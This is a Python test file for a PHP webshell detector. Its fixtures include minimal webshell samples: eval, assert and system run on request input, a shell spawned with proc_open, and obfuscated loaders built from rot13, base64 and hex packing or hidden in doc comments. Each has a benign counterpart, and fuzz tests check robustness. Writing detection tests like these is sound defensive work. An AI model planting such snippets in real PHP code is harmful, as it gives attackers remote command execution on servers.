"""PHP analysis, second round (issue 3): long concatenated blobs, decoders that need a shorter
prefix, references, commented arrays, gate atoms for code assembled in the file, and the
precision fixes (loops over fixed superglobal names, regexes with fixed delimiters).

Every sample is a minimal one written for these tests.
"""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sscguard.detect.webshell.detectors import php_atoms, run_detectors
from sscguard.detect.webshell.flow import MAX_SECONDS, SinkKind
from sscguard.detect.webshell.php import analyse_php
from sscguard.detect.webshell.phpinterp import BUILTINS, Lite, lite
from sscguard.model import Severity


def _rot_table_packer(payload: str, pieces: int) -> str:
    """A substitution-table packer whose blob is split into ``pieces`` concatenated literals
    (thousands of ``'...'.`` lines, as packers emit) and decoded character by character."""
    plain = base64.b64encode(payload.encode()).decode()
    swap = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "BCDEFGHIJKLMNOPQRSTUVWXYZA")
    packed = plain.translate(swap)
    size = max(1, len(packed) // pieces)
    chunks = [packed[i : i + size] for i in range(0, len(packed), size)]
    blob = ".\n".join(f"'{c}'" for c in chunks)
    table = ", ".join(f"'{chr(65 + (i + 1) % 26)}' => '{chr(65 + i)}'" for i in range(26))
    return (
        "<?php\nfunction unt($s, $t) { $o = '';\n"
        "  for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; }\n"
        "  return base64_decode($o); }\n"
        f"$blob = {blob};\n$t = array({table});\neval(unt($blob, $t));\n"
    )


_LONG_PAYLOAD = "system($_POST['k']);\n" + "// filler line of the packed program\n" * 400

POSITIVES: dict[str, str] = {
    # XML parser handlers and user-compare callbacks chosen by the request
    "xml-handler-callable": (
        "<?php\n$h = xml_parser_create();\nxml_set_character_data_handler($h, $_GET['f']);\n"
        "xml_parse($h, '<a>' . $_GET['c'] . '</a>');\n"
    ),
    "uassoc-callable": "<?php\narray_diff_uassoc(array($_POST['c'] => 1), array(), $_POST['f']);\n",
    # a blob of 1500 concatenated pieces: folded iteratively, not by recursion
    "long-concatenation-packer": _rot_table_packer(_LONG_PAYLOAD, 1500),
    # a reference to a folded function name
    "reference-to-callee": (
        "<?php\nfunction run($u) { $b = 's' . 'tr_r' . 'ot13'; $c = &$b;\n"
        "  $a = $c('nffreg'); $a($u); }\nrun($_POST['x']);\n"
    ),
    # comments between array elements do not stop the folder
    "commented-array-name": (
        "<?php\n$r = $_POST['q'];\n$p = array('x' => 'as', /* noise */ 'y' => 'sert' // more\n);\n"
        "$f = $p['x'] . /* noise */ $p['y'];\n$f($r);\n"
    ),
    # request input written to the standard input of a spawned shell
    "proc-open-shell-stdin": (
        "<?php\n$cmd = $_POST['c'];\n"
        "$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'));\n"
        "$p = proc_open('/bin/sh', $spec, $pipes);\nfwrite($pipes[0], $cmd . \"\\n\");\n"
        "echo stream_get_contents($pipes[1]);\n"
    ),
    # a decoder written as a plain top-level loop: replayed up to the sink
    "toplevel-loop-decoder": (
        "<?php\nfor ($i = 0, $e = '"
        + "".join(f"{ord(c) + 1:02x}" for c in "system($_GET['c']);")
        + "', $d = ''; $i < strlen($e); $i += 2) {\n"
        "  $d .= chr(hexdec(substr($e, $i, 2)) - 1);\n}\neval($d);\n"
    ),
    # array elements assigned one by one, then joined into code
    "toplevel-element-assembly": (
        "<?php\n$p['a'] = 'sys'; $p['b'] = 'tem($_G'; $q = 'ET[1]);';\n"
        "$c = $p['a'] . $p['b'] . $q;\n@eval($c);\n"
    ),
    # the payload hidden in a class's doc comment, cut out with strpos/substr
    "doc-comment-carrier": (
        "<?php\n/**\n * as\n * sert\n */\nclass Note { }\n"
        "$r = new ReflectionClass('Note');\n$t = $r->getDocComment();\n"
        "$f = substr($t, strpos($t, 'as'), 2) . substr($t, strpos($t, 'sert'), 4);\n"
        "$f($_POST['x']);\n"
    ),
}

BENIGN: dict[str, str] = {
    "xml-handler-fixed": (
        "<?php\n$p = xml_parser_create();\n"
        "xml_set_element_handler($p, 'open_tag', 'close_tag');\n"
        "xml_set_character_data_handler($p, 'text');\nxml_parse($p, $_POST['xml']);\n"
    ),
    "long-concatenation-text": (
        "<?php\n$html = " + ".\n".join(f"'<li>item {i}</li>'" for i in range(1500)) + ";\n"
        "echo $html;\n"
    ),
    "reference-to-array": "<?php\n$cfg = array('a' => 1);\n$c = &$cfg;\n$c['a'] = $_GET['a'];\n",
    "commented-array-callable": (
        "<?php\n$map = array('x' => 'trim', /* the only one */ 'y' => 'strtolower');\n"
        "$f = $map['y'];\necho $f($_GET['q']);\n"
    ),
    # ``foreach (array('_GET', ...) as $k) $$k = filtered`` writes known superglobals only
    "superglobal-refilter-loop": (
        "<?php\nforeach (array('_GET', '_POST') as $k) {\n"
        "  $v = filter_input_array(constant('INPUT' . $k), FILTER_UNSAFE_RAW);\n"
        "  if ($v) { $$k = $v; }\n}\n$handler = 'render_page';\n$handler($page);\n"
    ),
    # the request supplies a search term inside fixed delimiters and modifiers
    "regex-with-fixed-delimiters": (
        "<?php\n$q = $_GET['q'];\n"
        "echo preg_replace('~(?<=[?&])(' . $q . ')=[^&]*~i', '', $_SERVER['REQUEST_URI']);\n"
    ),
    # code generated from request data at the top level: not a constant, nothing replayed
    "toplevel-generated-from-request": (
        "<?php\n$code = '';\nforeach ($_POST['fields'] as $f) { $code .= '$v[] = 1;'; }\n"
        "eval($code);\n"
    ),
    "toplevel-constant-config": (
        "<?php\n$src = '';\n"
        "for ($i = 0; $i < 3; $i++) { $src .= '$cfg[' . $i . '] = ' . $i . ';'; }\n"
        "eval($src);\necho $cfg[2];\n"
    ),
    "regex-interpolated-fixed-delimiters": (
        "<?php\nsession_start();\n$q = $_SESSION['param'];\n"
        "$u = preg_replace(\"~(?<=[?&])($q\" . (defined('SID') ? '' : '|sid') . \")=[^&]*~\", '', "
        "$_SERVER['REQUEST_URI']);\necho $u;\n"
    ),
    "doc-comment-annotations": (
        "<?php\n/**\n * @route /home\n */\nclass Home { }\n"
        "$r = new ReflectionClass('Home');\n$doc = $r->getDocComment();\n"
        "$route = substr($doc, strpos($doc, '@route') + 7, 5);\necho $route . $_GET['q'];\n"
    ),
    "proc-open-fixed-tool": (
        "<?php\n$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'));\n"
        "$p = proc_open('/usr/bin/gpg --encrypt', $spec, $pipes);\n"
        "fwrite($pipes[0], $_POST['message']);\necho stream_get_contents($pipes[1]);\n"
    ),
}


@pytest.mark.parametrize("name", sorted(POSITIVES))
def test_round2_technique_is_flagged(name: str) -> None:
    data = POSITIVES[name].encode()
    assert php_atoms(data), name
    findings = run_detectors("x.php", data, ())
    assert [f for f in findings if f.severity >= Severity.HIGH], name


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_round2_benign_counterpart_is_not_flagged(name: str) -> None:
    findings = run_detectors("x.php", BENIGN[name].encode(), ())
    assert not [f for f in findings if f.severity >= Severity.MEDIUM], name


def test_long_packer_decodes_a_prefix_within_the_budget() -> None:
    start = time.monotonic()
    analysis = analyse_php(POSITIVES["long-concatenation-packer"].encode())
    assert time.monotonic() - start < MAX_SECONDS * 4
    executed = [layer for layer in analysis.layers if layer.executed]
    assert executed and executed[0].preview.startswith("system(")
    assert any(p.kind is SinkKind.COMMAND for p in analysis.paths)


@pytest.mark.parametrize(
    "sample",
    [
        b"<?php $s = 'ev' . 'al($_PO' . 'ST[1]);'; @eval($s);",
        b"<?php $f = 'system(\"id\")'; assert($f);",
        b"<?php $r = $k('ab', '', 'sabyabsabteabm'); $r($z);",
        b"<?php $g = str_replace('q', '', 'aqsqsqeqrqt'); $g($x);",
        b'<?php eval("\\$x=gzin"."flate(\'abc\');");',
        b'<?php $g = "\\x61\\156\\x75\\156\\x61"; $z = $$g; $z($y);',
        b"<?php $r = new ReflectionClass('A'); $t = $r->getDocComment(); $t($u);",
    ],
)
def test_gate_atoms_for_code_assembled_in_the_file(sample: bytes) -> None:
    assert php_atoms(sample)


@pytest.mark.parametrize(
    "sample",
    [
        b"<?php $v = $this->eval($x); echo str_replace('a', 'b', $s);",
        b"<?php assert($a instanceof Foo); $n = str_replace(' ', '', $name);",
        b"<?php eval('return ' . $expr . ';');",
    ],
)
def test_gate_atoms_leave_ordinary_code_out(sample: bytes) -> None:
    assert not php_atoms(sample)


def test_lite_copy_keeps_fields_and_is_bounded() -> None:
    from sscguard.detect.webshell.php import php_parser as _parser
    from sscguard.detect.webshell.phpinterp import NotConstantError

    tree = _parser().parse(b"<?php $a = $b . 'c'; ++$i;")
    copy = lite(tree.root_node, [10_000])
    assert isinstance(copy, Lite) and copy.type == "program"
    stmt = copy.named_children[1].named_children[0]
    assert stmt.child_by_field_name("left") is stmt.children[0]
    assert stmt.child_by_field_name("right") is not None
    with pytest.raises(NotConstantError):
        lite(tree.root_node, [3])


_PIECES = st.sampled_from(
    ["'a'", "'YWJj'", "$x", "chr(65)", "(", ")", "'.'", "$t['k']", "strrev('ab')", "/*c*/", "1"]
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, min_size=1, max_size=300), st.integers(0, 4))
def test_concatenation_folder_fuzz_never_crashes(pieces: list[str], shape: int) -> None:
    joined = " . ".join(pieces)
    source = [
        f"<?php $x = {joined}; eval($x);",
        f"<?php $t = array('k' => {joined}); $f = $t['k']; $f($_GET[1]);",
        f"<?php function d($s) {{ $o = ''; for ($i = 0; $i < strlen($s); $i++) "
        f"{{ $o .= $s[$i]; }} return $o; }} eval(d({joined}));",
        f"<?php $a = &$b; $b = {joined}; $a($_POST[0]);",
        f"<?php foreach (array({joined}) as $k) {{ $$k = $_GET[$k]; }} system($cmd);",
    ][shape]
    start = time.monotonic()
    analysis = analyse_php(source.encode())
    assert time.monotonic() - start < MAX_SECONDS * 8
    assert isinstance(analysis.paths, tuple)


def test_nul_bytes_in_a_binary_literal_do_not_blind_the_parser() -> None:
    blob = "'\x07\x00\xe0\x00\x1b'"
    sample = (
        f"<?php $b = {blob}; $k = $_POST['k'];\n"
        "for ($i = 0; $i < 5; $i++) { $b[$i] = chr((ord($b[$i]) - ord($k[$i])) % 256); }\n"
        "$f = create_function('', $b); $f();\n"
    ).encode("latin-1")
    analysis = analyse_php(sample)
    assert any(p.kind is SinkKind.CODE for p in analysis.paths)
    benign = f"<?php $b = {blob}; echo strlen($b) . $_GET['x'];\n".encode("latin-1")
    assert not run_detectors("b.php", benign, ())
    # the folder still sees the literal's real bytes
    folded = analyse_php(
        b"<?php $z = '\x00ZXZhbCgkX0dFVFsxXSk7'; eval(base64_decode(substr($z, 1)));"
    )
    assert folded.paths and folded.paths[0].layer == 1


def test_toplevel_replay_keeps_a_prefix_when_the_budget_runs_out() -> None:
    payload = "system($_GET['c']);" + "/* pad */" * 6000
    hexed = "".join(f"{ord(c) + 1:02x}" for c in payload)
    sample = (
        f"<?php\n$e = '{hexed}'; $d = '';\n"
        "for ($i = 0; $i < strlen($e); $i += 2) { $d .= chr(hexdec(substr($e, $i, 2)) - 1); }\n"
        "eval($d);\n"
    )
    start = time.monotonic()
    analysis = analyse_php(sample.encode())
    assert time.monotonic() - start < MAX_SECONDS * 8
    executed = [layer for layer in analysis.layers if layer.executed]
    assert executed and executed[0].preview.startswith("system(")
    assert executed[0].size < len(payload)


_NAMES = st.sampled_from(
    ["strpos", "stripos", "strlen", "ucfirst", "ltrim", "rtrim", "dechex", "hexdec", "octdec",
     "decoct", "bindec", "decbin", "intval", "strval", "bin2hex", "abs"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(_NAMES, st.lists(st.binary(max_size=40), min_size=1, max_size=3))
def test_folder_builtin_fallback_never_crashes(name: str, values: list[bytes]) -> None:
    from sscguard.detect.webshell.php import PhpAnalyser

    out = PhpAnalyser._builtin(name, values)
    assert out is None or isinstance(out, bytes)


_PHP_LITERALS = st.one_of(
    st.text(alphabet="abcxyz019 ,.-", max_size=8).map(lambda t: f"'{t}'"),
    st.integers(min_value=-3, max_value=300).map(str),
    st.lists(st.integers(min_value=0, max_value=127), max_size=4).map(
        lambda xs: "array(" + ", ".join(map(str, xs)) + ")"
    ),
    st.just("$_GET['x']"),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.sampled_from(sorted(BUILTINS)),
    args=st.lists(_PHP_LITERALS, max_size=3),
)
def test_interpreter_builtins_never_fail_the_analysis(name: str, args: list[str]) -> None:
    # a callee computed by a built-in the interpreter emulates, on any arguments the file
    # gives it: a wrong count or type is "not a constant", never an analysis error
    code = f"<?php\n$f = {name}({', '.join(args)});\n$g = 'sys' . 'tem';\n$f($_GET['c']);\n"
    analysis = analyse_php(code.encode())  # raised IndexError for a one-argument join($x)
    assert analysis.language == "php"
